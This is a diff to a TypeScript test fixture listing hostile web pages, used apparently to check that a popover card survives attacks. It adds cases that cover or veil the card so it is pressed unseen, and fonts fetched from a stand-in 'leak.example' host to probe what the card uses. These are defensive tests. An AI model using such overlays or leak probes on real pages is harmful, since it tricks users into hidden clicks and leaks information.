@@ -14,6 +14,9 @@ export interface HostilePage {
   readonly relent?: (page: Page) => Promise<unknown>;
   /** What the page does once the card is there. */
   readonly attack?: (page: Page) => Promise<unknown>;
+  /** What the page does so that the card is pressed unseen, and what ends it: a press between counts nothing. */
+  readonly veil?: (page: Page) => Promise<unknown>;
+  readonly unveil?: (page: Page) => Promise<unknown>;
   /** The page ends the card; else it stays until the person answers. */
   readonly ends?: PromptOutcome;
   /** The page itself becomes another one meanwhile. */
@@ -22,8 +25,6 @@ export interface HostilePage {
   readonly throws?: true;
   /** Colours or fractions of a pixel come out otherwise: only the size of the card is compared. */
   readonly sizeOnly?: true;
-  /** The card is drawn as on a plain page, but something may lie above it. */
-  readonly covered?: true;
 }
 
 const style = (css: string) => `<style>${css}</style>`;
@@ -162,23 +163,10 @@ const SHOWN: readonly HostilePage[] = [
   },
   { title: 'closes the popover', attack: run(`${HOST}.hidePopover()`) },
   {
-    title: 'lets no popover open',
-    head: script(`addEventListener('beforetoggle', (event) => event.preventDefault(), true);`),
-  },
-  {
     title: 'clones the card',
     attack:
       run(`{ const host = ${HOST}; const clone = host.cloneNode(true); document.body.append(clone);
       window.cloned = clone.childNodes.length + (clone.shadowRoot ? 1 : 0); clone.remove(); }`),
-  },
-  {
-    title: 'covers the card',
-    attack:
-      run(`{ const cover = document.createElement('div'); cover.id = 'cover'; cover.popover = 'manual';
-      cover.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; background: white';
-      document.body.append(cover); cover.showPopover(); }`),
-    covered: true,
-    changes: true,
   },
   {
     title: 'renders its body anew, again and again',
@@ -229,8 +217,252 @@ const SHOWN: readonly HostilePage[] = [
   },
 ];
 
+/** Families that a card may name, and the generic ones. */
+const FAMILIES = (
+  'Charter,Bitstream Charter,Sitka Text,Georgia,Cambria,Noto Serif,Times New Roman,Arial,' +
+  'system-ui,sans-serif,serif,ui-serif,ui-sans-serif,monospace,emoji,math,initial'
+).split(',');
+const PROPERTIES = ['paper', 'raised', 'ink', 'ink-soft', 'line', 'line-strong', 'edge'].flatMap(
+  (name) => [`--${name}`, `--card-${name}`],
+);
+/** What the page asks for its own text is not asked for by the card. */
+const OWN_TEXT = ' html { font-family: fantasy }';
+const ON_HOST = ':root > div[popover]';
+
+/** Opens a popover above all, as large as the window. */
+const cover = (look: string, parent = 'document.body') =>
+  `{ const cover = document.createElement('div'); cover.id = 'cover'; cover.popover = 'manual';
+    cover.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; margin: 0; background: white; ${look}';
+    ${parent}.append(cover); cover.showPopover(); }`;
+
+/** Pages that reach for the card with what they name for their whole document, or lay something over it. */
+const REACHING: readonly HostilePage[] = [
+  {
+    title: 'has a font of its own for every family',
+    head: style(
+      FAMILIES.map(
+        (family) =>
+          `@font-face { font-family: "${family}"; src: url(https://leak.example/${encodeURIComponent(family)}) }`,
+      ).join(' ') + OWN_TEXT,
+    ),
+  },
+  {
+    title: 'adds a font of its own for every family once the card is there',
+    head: style(OWN_TEXT),
+    attack: run(
+      `for (const family of ${JSON.stringify(FAMILIES)})
+        document.fonts.add(new FontFace(family, 'url(https://leak.example/' + encodeURIComponent(family) + ')'));`,
+    ),
+  },
+  {
+    title: 'registers properties as transparent',
+    head: style(
+      PROPERTIES.map(
+        (name) =>
+          `@property ${name} { syntax: '<color>'; inherits: false; initial-value: transparent }`,
+      ).join(' '),
+    ),
+  },
+  {
+    title: 'registers properties as lengths, by script',
+    head: script(`for (const name of ${JSON.stringify(PROPERTIES)})
+      CSS.registerProperty({ name, syntax: '<length>', inherits: true, initialValue: '0px' });`),
+  },
+  {
+    title: 'styles counters',
+    head: style(`@counter-style disc { system: cyclic; symbols: 'AD'; suffix: ' ' }
+      @counter-style decimal { system: cyclic; symbols: 'AD' } * { counter-increment: evil; list-style: disc !important }`),
+  },
+  {
+    title: 'tries positions and anchors',
+    head: style(`@position-try --away { inset: -999px auto auto -999px; width: 1px }
+      #link { anchor-name: --link }
+      * { position-anchor: --link !important; position-area: top left !important;
+        position-try: --away !important; position-try-fallbacks: --away !important; anchor-scope: all !important }`),
+  },
+  {
+    title: 'names parts and slots',
+    head: style(`*::part(lines), *::part(button), ${ON_HOST}::part(card) { display: none !important }
+      ::slotted(*), :host, :host(div), :host-context(html) { display: none !important; opacity: 0 !important }`),
+  },
+  {
+    title: 'has layers of important rules',
+    head: style(`@layer first, second;
+      @layer first { div, p { display: none !important; opacity: 0 !important; content: none !important } }`),
+  },
+  {
+    title: 'takes the names of elements for itself',
+    head: style(`@namespace url(http://www.w3.org/1999/xhtml); @namespace svg url(http://www.w3.org/2000/svg);
+      svg|svg, svg|path { display: none !important } div { display: none !important }`),
+  },
+  {
+    title: 'has names for palettes and features of fonts',
+    head: style(`@font-palette-values --evil { font-family: serif; base-palette: 1; override-colors: 0 transparent }
+      @font-feature-values serif { @styleset { evil: 1 } } @font-feature-values system-ui { @swash { evil: 2 } }
+      * { font-palette: --evil !important; font-variant-alternates: styleset(evil) !important; font-feature-settings: 'smcp' !important }`),
+  },
+  {
+    title: 'is a container of a size',
+    head: style(`html { container: card / inline-size } @container card (width > 1px) { div { display: none !important } }
+      @container (width > 1px) { ${ON_HOST} { opacity: 0 !important } }`),
+  },
+  {
+    title: 'has keyframes for every name, and plays them on everything',
+    head: style(`@keyframes evil { from, to { opacity: 0; visibility: hidden; translate: 999px 0 } }
+      * { animation: evil 1s infinite both !important }`),
+  },
+  {
+    title: 'plays by how far it is scrolled',
+    head: style(`@keyframes evil { from, to { opacity: 0; scale: 0 } }
+      html { scroll-timeline: --page block; timeline-scope: --page }
+      * { animation: evil linear both !important; animation-timeline: scroll(root) !important }`),
+  },
+  {
+    title: 'has scopes and styles to start with',
+    head: style(`@scope (:root) { div { opacity: 0 !important; display: none !important } }
+      @starting-style { ${ON_HOST} { opacity: 0 } } ${ON_HOST} { transition: opacity 100s !important }`),
+  },
+  {
+    title: 'animates the card by script',
+    attack:
+      run(`${HOST}.animate([{ opacity: 0, transform: 'scale(0)', visibility: 'hidden', clipPath: 'circle(0)' }],
+      { duration: 1, fill: 'forwards' })`),
+  },
+  {
+    title: 'is dark and large, and says so',
+    head: `<meta name="color-scheme" content="dark">${style(
+      'html { color-scheme: only dark; font-size: 60px; text-size-adjust: 300%; -webkit-text-size-adjust: 300%; letter-spacing: 9px }',
+    )}`,
+  },
+  {
+    title: 'lets no press through',
+    head: style('html, * { pointer-events: none !important; cursor: none !important }'),
+  },
+  {
+    title: 'is of no size, masked and blended',
+    head: style(`html { position: fixed; width: 0; height: 0; contain: layout; mask: linear-gradient(transparent, transparent);
+      mix-blend-mode: difference; isolation: isolate }`),
+    changes: true,
+  },
+  {
+    title: 'lies about where things are',
+    head: script(`Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 1, 1);
+      Document.prototype.elementFromPoint = Document.prototype.querySelectorAll = () => [];
+      Element.prototype.matches = Element.prototype.checkVisibility = () => true;
+      window.IntersectionObserver = window.CSS = undefined;`),
+    throws: true,
+  },
+  { title: 'opens and closes the card', attack: run(`{ ${HOST}.togglePopover(); }`) },
+  {
+    title: 'takes hold of the card',
+    attack:
+      run(`{ const host = ${HOST}; host.focus(); host.click(); host.scrollTo(0, 99); host.scrollIntoView();
+      try { host.attachShadow({ mode: 'open' }); } catch {} try { host.showPopover(); } catch {} }`),
+    changes: true,
+  },
+  {
+    title: 'makes up keys without end',
+    attack: run(`{ let left = 200; const timer = setInterval(() => {
+      dispatchEvent(new KeyboardEvent('keydown', { code: 'KeyX', key: 'x' })); if (!--left) clearInterval(timer); }, 20); }`),
+  },
+  { title: 'covers the card', attack: run(cover('')), changes: true },
+  {
+    title: 'covers the card, and lets presses through',
+    attack: run(cover('pointer-events: none')),
+    changes: true,
+  },
+  {
+    title: 'covers the card from within a shadow tree',
+    attack: run(`{ const shell = document.createElement('div'); document.body.append(shell);
+      window.inside = shell.attachShadow({ mode: 'closed' }); } ${cover('', 'inside')}`),
+    changes: true,
+  },
+  {
+    title: 'covers the card from a frame as large as the window',
+    attack:
+      run(`{ const frame = document.createElement('iframe'); frame.id = 'cover'; frame.popover = 'manual';
+      frame.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; pointer-events: none';
+      document.body.append(frame); frame.showPopover(); }`),
+    changes: true,
+  },
+  {
+    title: 'covers the card though it hides the events of it',
+    head: script(`for (const type of ['toggle', 'beforetoggle'])
+      addEventListener(type, (event) => event.stopImmediatePropagation(), true);`),
+    attack: run(cover('pointer-events: none')),
+    changes: true,
+  },
+  {
+    title: 'draws something else over all that it shows',
+    veil: run(`document.documentElement.style.filter = 'opacity(0)'`),
+    unveil: run(`document.documentElement.removeAttribute('style')`),
+    changes: true,
+  },
+];
+
 /** Pages that end the card themselves: they have the last word, and nothing of it is left. */
 const ENDED: readonly HostilePage[] = [
+  {
+    title: 'makes the card as large as a house',
+    attack: run(`document.documentElement.style.zoom = 8`),
+    ends: 'ignored',
+    changes: true,
+  },
+  {
+    title: 'covers all with a transition that does not end',
+    head: style(`::view-transition { background: white; pointer-events: none }
+      ::view-transition-group(root) { animation-duration: 100s; opacity: 0 }`),
+    attack: run(`document.startViewTransition(() => {}).ready`),
+    ends: 'ignored',
+    changes: true,
+  },
+  {
+    title: 'lets no popover open',
+    head: script(`addEventListener('beforetoggle', (event) => event.preventDefault(), true);`),
+    ends: 'ignored',
+  },
+  {
+    title: 'covers the card again and again',
+    attack: run(`window.timer = setInterval(() => { ${cover('pointer-events: none')} }, 100);
+      setTimeout(() => clearInterval(timer), 2000)`),
+    ends: 'ignored',
+    changes: true,
+  },
+  {
+    title: 'opens a modal dialog over the card',
+    attack: run(
+      `{ const dialog = document.createElement('dialog'); document.body.append(dialog); dialog.showModal(); }`,
+    ),
+    ends: 'ignored',
+    changes: true,
+  },
+  {
+    title: 'opens a modal dialog over the card in a shadow tree',
+    attack: run(`{ const shell = document.createElement('div'); document.body.append(shell);
+      const dialog = document.createElement('dialog'); shell.attachShadow({ mode: 'closed' }).append(dialog);
+      dialog.style.cssText = 'width: 100vw; height: 100vh; max-width: none; max-height: none'; dialog.showModal(); }`),
+    ends: 'ignored',
+    changes: true,
+  },
+  {
+    title: 'makes itself inert once the card is there',
+    attack: run('document.documentElement.inert = true'),
+    ends: 'ignored',
+    changes: true,
+  },
+  {
+    title: 'fills the screen once the card is there',
+    prepare: run(
+      `link.onclick = (event) => { event.preventDefault(); void document.body.requestFullscreen(); }`,
+    ),
+    attack: async (page) => {
+      await page.evaluate('scrollTo(0, 0)');
+      await page.click('#link');
+      await page.waitForFunction('document.fullscreenElement');
+    },
+    ends: 'ignored',
+    changes: true,
+  },
   {
     title: 'throws the card out again and again',
     head: script(
@@ -402,7 +634,7 @@ async function turnWheel(page: Page): Promise<void> {
   await pause(400);
 }
 
-export const HOSTILE_PAGES = [...SHOWN, ...ENDED, ...AWAY];
+export const HOSTILE_PAGES = [...SHOWN, ...REACHING, ...ENDED, ...AWAY];
 
 /** The most telling handful, for the short version. */
 export const TELLING_PAGES = HOSTILE_PAGES.filter(({ title }) =>
@@ -410,6 +642,10 @@ export const TELLING_PAGES = HOSTILE_PAGES.filter(({ title }) =>
     'styles what hangs on an element',
     'forbids styles, and throws the card out once',
     'listens for everything on its way down',
+    'has a font of its own for every family',
+    'registers properties as transparent',
+    'covers the card, and lets presses through',
+    'draws something else over all that it shows',
     'throws the card out again and again',
     'has a modal dialog open',
     'has a composer in a closed shadow tree in use',
